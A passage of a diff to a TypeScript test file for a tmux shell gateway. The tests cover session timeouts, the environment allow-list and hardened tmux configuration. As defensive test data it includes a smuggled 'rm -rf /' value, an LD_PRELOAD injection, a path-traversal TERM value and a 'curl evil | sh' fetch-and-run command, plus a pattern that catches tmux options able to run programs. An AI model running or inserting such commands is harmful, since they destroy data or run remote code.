@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { FakeClock } from '../../src/platform/clock.js';
 import { silentLogger } from '../../src/platform/logger.js';
 import { ShellSession, clampSize, type TerminalChannel } from '../../src/session/shell-session.js';
-import type { Pty } from '../../src/session/pty.js';
+import type { Pty } from '../../src/platform/pty.js';
 import { shellEnv, normaliseTerm, envAllowed } from '../../src/session/env.js';
 import { tmuxConf, checkTmuxOptions } from '../../src/host/tmux.js';
 
@@ -12,6 +12,7 @@ function fakePty() {
   let dataFn: (d: Buffer) => void = () => {};
   const p: Pty & { emit(d: string): void; calls: string[] } = {
     pid: 1,
+    tty: null,
     calls,
     onData: (fn) => (dataFn = fn),
     onExit: () => {},
@@ -44,10 +45,16 @@ function fakeChannel(full = false) {
   return c;
 }
 
-const opts = { id: 's1', spawn: { file: 'tmux', args: [], cwd: '/', env: {}, cols: 80, rows: 24, term: 'xterm' }, idleTimeoutMs: 15 * 60_000, idleWarningMs: 60_000, maxSessionMs: 12 * 3_600_000 };
+const opts = {
+  id: 's1',
+  spawn: { file: 'tmux', args: [], cwd: '/', env: {}, cols: 80, rows: 24, term: 'xterm' },
+  idleTimeoutMs: 15 * 60_000,
+  idleWarningMs: 60_000,
+  maxSessionMs: 12 * 3_600_000,
+};
 
 describe('shell session', () => {
-  it('warns a minute before the idle timeout, resets on input, then logs off with a message', () => {
+  it('warns a minute before the idle timeout, resets on input, then logs off with a message', async () => {
     const clock = new FakeClock();
     const pty = fakePty();
     const ch = fakeChannel();
@@ -67,7 +74,7 @@ describe('shell session', () => {
     expect(ch.exited()).toBe(0);
   });
 
-  it('output alone (a busy program) does not keep a session alive', () => {
+  it('output alone (a busy program) does not keep a session alive', async () => {
     const clock = new FakeClock();
     const pty = fakePty();
     const ch = fakeChannel();
@@ -80,7 +87,7 @@ describe('shell session', () => {
     expect(s.endReason).toBe('idle-timeout');
   });
 
-  it('ends at the maximum session time even with input', () => {
+  it('ends at the maximum session time even with input', async () => {
     const clock = new FakeClock();
     const ch = fakeChannel();
     const s = new ShellSession({ ...opts, maxSessionMs: 10 * 60_000 }, { clock, logger: silentLogger(), spawnPty: () => fakePty() });
@@ -92,7 +99,7 @@ describe('shell session', () => {
     expect(s.endReason).toBe('max-session-time');
   });
 
-  it('pauses the pty while the client window is full and resumes on drain', () => {
+  it('pauses the pty while the client window is full and resumes on drain', async () => {
     const pty = fakePty();
     const ch = fakeChannel(true);
     const s = new ShellSession(opts, { clock: new FakeClock(), logger: silentLogger(), spawnPty: () => pty });
@@ -106,15 +113,21 @@ describe('shell session', () => {
     expect(s.waitingForClient).toBe(false);
   });
 
-  it('ends cleanly when the pty cannot be spawned', () => {
+  it('ends cleanly when the pty cannot be spawned', async () => {
     const ch = fakeChannel();
-    const s = new ShellSession(opts, { clock: new FakeClock(), logger: silentLogger(), spawnPty: () => { throw new Error('ENOENT'); } });
+    const s = new ShellSession(opts, {
+      clock: new FakeClock(),
+      logger: silentLogger(),
+      spawnPty: () => {
+        throw new Error('ENOENT');
+      },
+    });
     s.start(ch);
     expect(s.endReason).toBe('spawn-failed');
     expect(ch.exited()).toBe(1);
   });
 
-  it('clamps absurd sizes', () => {
+  it('clamps absurd sizes', async () => {
     expect(clampSize(0, 0)).toEqual({ cols: 80, rows: 24 });
     expect(clampSize(100000, 100000)).toEqual({ cols: 1000, rows: 500 });
     expect(clampSize(-5, NaN)).toEqual({ cols: 80, rows: 24 });
@@ -123,25 +136,62 @@ describe('shell session', () => {
 });
 
 describe('environment and tmux config', () => {
-  it('builds the shell environment from nothing but the allow-list', () => {
+  it('builds the shell environment from nothing but the allow-list', async () => {
     process.env.SHOULD_NOT_LEAK = 'x';
-    const env = shellEnv({ term: 'xterm', lang: 'C.UTF-8', home: '/home/a', user: 'a', shell: '/bin/sh', gatewayUser: 'alice', role: 'ops', sessionId: 's', clientEnv: { LC_ALL: 'C', LD_PRELOAD: '/x.so', LANG: 'en_US.UTF-8' } });
-    expect(Object.keys(env).sort()).toEqual(['HOME', 'LANG', 'LC_ALL', 'LOGNAME', 'PATH', 'SHELL', 'TERM', 'TMUXGATE_ROLE', 'TMUXGATE_SESSION', 'TMUXGATE_USER', 'USER']);
+    const env = shellEnv({
+      term: 'xterm',
+      lang: 'C.UTF-8',
+      home: '/home/a',
+      user: 'a',
+      shell: '/bin/sh',
+      gatewayUser: 'alice',
+      role: 'ops',
+      sessionId: 's',
+      clientEnv: { LC_ALL: 'C', LD_PRELOAD: '/x.so', LANG: 'en_US.UTF-8' },
+    });
+    expect(Object.keys(env).sort()).toEqual([
+      'HOME',
+      'LANG',
+      'LC_ALL',
+      'LOGNAME',
+      'PATH',
+      'SHELL',
+      'TERM',
+      'TMUXGATE_ROLE',
+      'TMUXGATE_SESSION',
+      'TMUXGATE_USER',
+      'USER',
+    ]);
     expect(env.LANG).toBe('en_US.UTF-8');
     expect(envAllowed('LANG', 'C; rm -rf /')).toBe(false);
   });
-  it('normalises TERM', () => {
+  it('normalises TERM', async () => {
     expect(normaliseTerm('', 'xterm-256color')).toBe('xterm-256color');
     expect(normaliseTerm('dumb', 'xterm-256color')).toBe('xterm-256color');
     expect(normaliseTerm('no-such-terminal', 'xterm-256color')).toBe('xterm-256color');
     expect(normaliseTerm('../../etc/passwd', 'xterm-256color')).toBe('xterm-256color');
     expect(normaliseTerm('xterm', 'xterm-256color')).toBe('xterm');
   });
-  it('generates a hardened tmux.conf and refuses options that could run programs', () => {
-    const role = { id: 1, name: 'ops', kind: 'shell' as const, runAs: null, allowRoot: false, shell: null, idleTimeoutMs: null, idleWarningMs: null, maxSessionMs: null, recordInput: false, tmuxOptions: { 'history-limit': '5000' }, createdAt: 0, sandbox: null };
+  it('generates a hardened tmux.conf and refuses options that could run programs', async () => {
+    const role = {
+      id: 1,
+      name: 'ops',
+      kind: 'shell' as const,
+      runAs: null,
+      allowRoot: false,
+      shell: null,
+      idleTimeoutMs: null,
+      idleWarningMs: null,
+      maxSessionMs: null,
+      recordInput: false,
+      tmuxOptions: { 'history-limit': '5000' },
+      createdAt: 0,
+      sandbox: null,
+    };
     const conf = tmuxConf(role, '/bin/bash');
     expect(conf).not.toContain('alice'); // readable by every account: names no user
-    for (const line of ['set -g allow-rename off', 'set -g set-clipboard off', 'set -g allow-passthrough off', 'set -g update-environment ""']) expect(conf).toContain(line);
+    for (const line of ['set -g allow-rename off', 'set -g set-clipboard off', 'set -g allow-passthrough off', 'set -g update-environment ""'])
+      expect(conf).toContain(line);
     expect(conf).not.toMatch(/run-shell|if-shell|set-hook/);
     expect(conf).toContain('set -g history-limit "5000"');
     expect(checkTmuxOptions({ 'default-command': 'curl evil | sh' })).toMatch(/not allowed/);
